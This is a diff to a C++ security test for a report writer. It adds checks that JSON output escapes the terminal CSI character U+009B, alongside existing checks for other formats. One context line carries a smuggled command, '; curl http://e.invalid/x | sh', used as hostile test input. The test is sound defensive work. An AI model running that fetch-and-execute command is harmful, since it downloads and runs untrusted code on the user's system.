@@ -180,6 +180,13 @@ TEST(Security, HostileReportsGoThroughEveryReaderSafely) {
           EXPECT_NE(r.out.find("'x\n```\n; curl http://e.invalid/x | sh\n```'"), std::string::npos) << r.out;
         }
       }
+      if (std::string(format) == "json") {
+        // Issue 53: JSON carried U+009B (a terminal's CSI) raw; it is written \u009b.
+        EXPECT_EQ(r.out.find("\xC2\x9B"), std::string::npos) << name;
+        if (name == "row3-terminal" || name == "row4-xml") {
+          EXPECT_NE(r.out.find("\\u009b31m"), std::string::npos) << name;
+        }
+      }
       if (std::string(format) == "junit" || std::string(format) == "html") {
         EXPECT_EQ(r.out.find("\xEF\xBF\xBE"), std::string::npos) << name;
         EXPECT_EQ(r.out.find("\x1b"), std::string::npos) << name;
